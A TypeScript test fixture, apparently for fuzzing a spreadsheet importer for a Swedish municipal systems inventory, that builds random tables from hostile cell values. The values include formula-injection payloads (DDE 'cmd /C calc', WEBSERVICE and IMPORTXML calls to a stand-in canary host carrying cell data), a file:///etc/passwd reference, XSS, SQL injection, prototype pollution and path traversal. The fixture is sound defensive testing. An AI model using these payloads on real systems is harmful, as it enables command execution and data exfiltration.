import { pick, whole, type Random } from '../random.ts';

/** What no cell may ever hold after it was read: it stands in files that a workbook points at. */
export const secret = 'KOMMONS-HEMLIGT-5091';

/** Texts that a program for sheets would run, fetch or call. */
const live = [
  '=1+1',
  '=HYPERLINK("http://canary.invalid/?"&A1;"Klicka")',
  '=WEBSERVICE("http://canary.invalid/")',
  '=IMPORTXML(CONCAT("http://canary.invalid/";A1);"//a")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=DDE("cmd";"/C calc";"x")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  "'=1+1",
  "''@A1",
  '＝1+1',
  '－1',
  '"=1+1"',
  '=\u00001+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '%0A=1+1',
  '=file:///etc/passwd#$A.A1',
] as const;

const odd = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"förorenad":true}}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '\u202Egnirts',
  'a\u0000b',
  '\uD800 ensam',
  '\uDFFF',
  '_x0000_',
  '_x003D_1+1',
  '🏛️'.repeat(50),
  'x'.repeat(40_000),
  '1e999',
  'NaN',
  '-0',
  '0x41',
  '31/12 2027',
  '2027-02-30',
  '45000',
  '99999999999999999999',
  '#REF!',
  '#N/A',
  "'; drop table systems.usages; --",
  '../../../../etc/passwd',
  'a;b,c\td|e',
  '"',
  '""""',
  'rad\r\nbrytning\rmed\u2028allt',
] as const;

export const names = ['Treserva', 'ByggR', 'Unikum', 'Procapita', 'Hypergene', 'Vårt eget system'] as const;

export const heads = [
  'System',
  'Ägare',
  'Kontaktperson',
  'Avtalet slutar',
  'Pris per år',
  'Kommons-id (ändra inte)',
  'Kommons-revision (ändra inte)',
  'Syfte',
  'Enheter',
  'Status',
] as const;

export const cell = (random: Random): string =>
  random() < 0.5 ? pick(random, live) : random() < 0.7 ? pick(random, odd) : pick(random, names);

/** Rows of hostile cells below a head that is recognised, or none. */
export function table(random: Random): readonly (readonly string[])[] {
  const columns = 1 + whole(random, heads.length);
  const head = random() < 0.8 ? heads.slice(0, columns) : Array.from({ length: columns }, () => cell(random));
  const rows = Array.from({ length: 1 + whole(random, 12) }, () => [
    random() < 0.6 ? pick(random, names) : cell(random),
    ...Array.from({ length: columns - 1 }, () => cell(random)),
  ]);
  return [head, ...rows];
}
